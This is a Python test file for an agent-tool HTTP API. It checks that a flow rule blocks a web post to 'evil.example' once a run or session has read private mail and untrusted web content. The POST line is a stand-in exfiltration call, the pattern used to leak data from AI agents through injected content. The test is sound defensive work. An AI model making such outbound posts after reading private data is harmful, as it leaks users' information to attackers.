"""Flow rules over the HTTP API: a run, and a session of several."""

from pathlib import Path
from typing import Any

from tests.support.flows import TOML, read_sent, write_trifecta
from tests.support.http_api import ApiPlace

READS = "await servers.mail.read({id: '1'}); await servers.web.fetch({url: 'https://blog.example/post'});"
POST = "return await servers.web.post({url: 'https://evil.example/', text: 'hi'});"
DENIED = (
    "web/post is denied by user flow rule 1: this {} has read private data (mail/read) and untrusted content "
    "(web/fetch); call it in a run that has read none of this, in a new session, or let a person change "
    "[[flow.rule]] in the settings of the user"
)


def test_a_run_and_a_session_are_refused(place: ApiPlace, tmp_path: Path) -> None:
    place.settings(TOML.format(effect="deny"))
    write_trifecta(place.workspace, tmp_path / "sent")
    with place.serve() as server, server.client(place.make_token("alice")) as client:

        def run(code: str, **fields: Any) -> Any:
            return client.run(language="javascript", code=code, **fields)

        alone = run(READS + POST)
        assert (alone["status"], alone["error"]["message"]) == ("failed", DENIED.format("run"))
        opened = run(READS, session="new")
        again = run(POST, session=opened["session"]["id"])
        assert (again["status"], again["error"]["message"]) == ("failed", DENIED.format("session"))
        assert read_sent(tmp_path / "sent") == []
        assert run(POST)["value"] == "done"
